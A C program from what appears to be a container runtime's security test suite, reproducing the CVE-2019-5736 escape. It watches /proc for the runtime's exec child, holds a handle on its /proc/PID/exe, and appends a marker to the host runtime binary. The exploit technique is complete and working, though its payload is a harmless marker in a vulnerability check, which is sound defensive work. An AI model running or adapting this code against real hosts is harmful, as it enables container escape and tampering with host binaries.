/* The CVE-2019-5736 attack, run inside a container (tests/security/t-self-exe.sh).
 *
 *   attack SECONDS DIR
 *
 * Watches /proc for a process whose executable is neither busybox nor this
 * program (the runtime's exec child, or a program the runtime loaded as the
 * interpreter of a "#!/proc/self/exe" script), stops it, keeps an O_PATH
 * handle on its /proc/PID/exe, kills it, and then reopens that handle for
 * writing, appending a marker (appended bytes leave an ELF runnable). It
 * writes DIR/ready when it watches and DIR/result when it is done (at the
 * latest SECONDS later, or once DIR/stop exists): "wrote
 * EXE" when the runtime's binary was changed, else what stopped it.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static char dir[512];

static void result(const char *fmt, const char *arg, int err) {
    char path[600], tmp[600];
    snprintf(path, sizeof path, "%s/result", dir);
    snprintf(tmp, sizeof tmp, "%s/result.tmp", dir);
    FILE *f = fopen(tmp, "w");
    if (!f) exit(2);
    fprintf(f, fmt, arg, err ? strerror(err) : "");
    fputc('\n', f);
    fclose(f);
    rename(tmp, path);
    exit(0);
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    double end = now() + atof(argv[1]);
    snprintf(dir, sizeof dir, "%s", argv[2]);
    char self[512] = "";
    ssize_t sl = readlink("/proc/self/exe", self, sizeof self - 1);
    if (sl > 0) self[sl] = 0;
    char ready[600];
    snprintf(ready, sizeof ready, "%s/ready", dir);
    close(open(ready, O_WRONLY | O_CREAT, 0644));
    char seen[64][600], stop[600];
    snprintf(stop, sizeof stop, "%s/stop", dir);
    int nseen = 0;
    while (now() < end && access(stop, F_OK) != 0) {
        DIR *d = opendir("/proc");
        if (!d) result("no /proc%s%s", "", errno);
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid()) continue;
            char link[64], exe[512];
            snprintf(link, sizeof link, "/proc/%d/exe", pid);
            ssize_t n = readlink(link, exe, sizeof exe - 1);
            if (n <= 0) continue;
            exe[n] = 0;
            if (!strcmp(exe, "/bin/busybox") || !strcmp(exe, self)) continue;
            kill(pid, SIGSTOP);
            int fd = open(link, O_PATH);
            if (fd < 0) {
                if (nseen < 64) snprintf(seen[nseen++], sizeof seen[0], "%s (open: %s)", exe, strerror(errno));
                kill(pid, SIGCONT);
                continue;
            }
            kill(pid, SIGKILL);
            char fdpath[64];
            snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
            int err = 0;
            for (double t = now() + 3; now() < t;) { /* ETXTBSY until the process is gone */
                int w = open(fdpath, O_WRONLY | O_APPEND);
                if (w >= 0) {
                    const char marker[] = "\nPWNED-BY-CONTAINER\n";
                    if (write(w, marker, sizeof marker - 1) == (ssize_t)(sizeof marker - 1)) result("wrote %s%s", exe, 0);
                    err = errno;
                    close(w);
                    break;
                }
                err = errno;
                if (err != ETXTBSY) break;
                usleep(2000);
            }
            if (nseen < 64) snprintf(seen[nseen++], sizeof seen[0], "%s (write: %s)", exe, strerror(err));
            close(fd);
        }
        closedir(d);
    }
    char all[64 * 600 + 16] = "";
    for (int i = 0; i < nseen; i++) strcat(strcat(all, seen[i]), "; ");
    result("not written; seen: %s%s", nseen ? all : "nothing", 0);
}
